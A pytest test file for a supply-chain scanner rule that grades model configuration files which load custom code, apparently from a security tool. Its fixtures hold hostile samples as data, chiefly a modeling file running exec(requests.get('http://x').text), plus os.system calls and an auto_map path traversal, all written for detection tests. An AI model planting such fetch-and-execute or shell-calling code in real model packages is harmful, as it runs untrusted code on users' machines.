"""Configurations that have a model's own code loaded."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from tests.checks.examples import outcomes
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "supply_chain/remote-code"
TINY = {"auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}


def write(directory: Path, value: Any, code: str | None = None, name: str = "config.json") -> Path:
    if code is not None:
        (directory / "modeling_tiny.py").write_text(code)
    path = directory / name
    path.write_text(json.dumps(value))
    return path


def positive(directory: Path) -> Path:
    return write(directory, TINY, "class TinyModel: ...\n")


def benign(directory: Path) -> Path:
    return write(directory, {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8})


def severities(path: Path) -> list[Severity]:
    return [f.severity for f in outcomes(path) if f.rule == RULE]


def test_severity_follows_the_code(tmp_path: Path) -> None:
    assert severities(write(tmp_path, TINY)) == [Severity.LOW]
    assert severities(write(tmp_path, TINY, "import torch\n\n\nclass TinyModel: ...\n")) == [Severity.MEDIUM]
    assert severities(write(tmp_path, TINY, "import os\nos.system('touch x')\n")) == [Severity.HIGH]
    assert severities(write(tmp_path, TINY, "import requests\nexec(requests.get('http://x').text)")) == [
        Severity.CRITICAL
    ]


@pytest.mark.parametrize(
    ("value", "severity"),
    [
        ({"auto_map": {"AutoModel": "org/name--modeling_tiny.TinyModel"}}, Severity.MEDIUM),
        ({"auto_map": {"AutoTokenizer": ["tokenization_tiny.Slow", None]}}, Severity.LOW),
        ({"auto_map": {"AutoModel": "../../elsewhere/x.M"}}, Severity.HIGH),
        ({"vision_config": {"auto_map": {"AutoModel": "modeling_vision.V"}}}, Severity.LOW),
        ({"custom_pipelines": {"tiny": {"impl": "pipeline_tiny.Tiny"}}}, Severity.LOW),
        ({"auto_mapping": {"parent_library": "os", "base_model_class": "M"}}, Severity.HIGH),
        ({"auto_mapping": {"parent_library": "someones.module", "base_model_class": "M"}}, Severity.MEDIUM),
        ({"trust_remote_code": True}, Severity.LOW),
    ],
)
def test_ways_to_name_code(tmp_path: Path, value: Any, severity: Severity) -> None:
    assert severities(write(tmp_path, value)) == [severity]


def test_modules_of_sentence_transformers(tmp_path: Path) -> None:
    usual = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
    assert severities(write(tmp_path, usual, name="modules.json")) == []
    assert severities(write(tmp_path, [{**usual[0], "type": "os.system"}], name="modules.json")) == [Severity.HIGH]


def test_pipelines_of_diffusers(tmp_path: Path) -> None:
    usual = {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "x": [None, None]}
    assert severities(write(tmp_path, usual, name="model_index.json")) == []
    own = {"_class_name": ["pipeline_own", "Own"], "unet": ["diffusers", "UNet2DConditionModel"]}
    assert severities(write(tmp_path, own, name="model_index.json")) == [Severity.LOW]


def test_a_key_that_stands_twice(tmp_path: Path) -> None:
    path = tmp_path / "config.json"
    path.write_text('{"auto_map": {}, "auto_map": {"AutoModel": "modeling_tiny.M"}}')
    assert Severity.HIGH in severities(path)
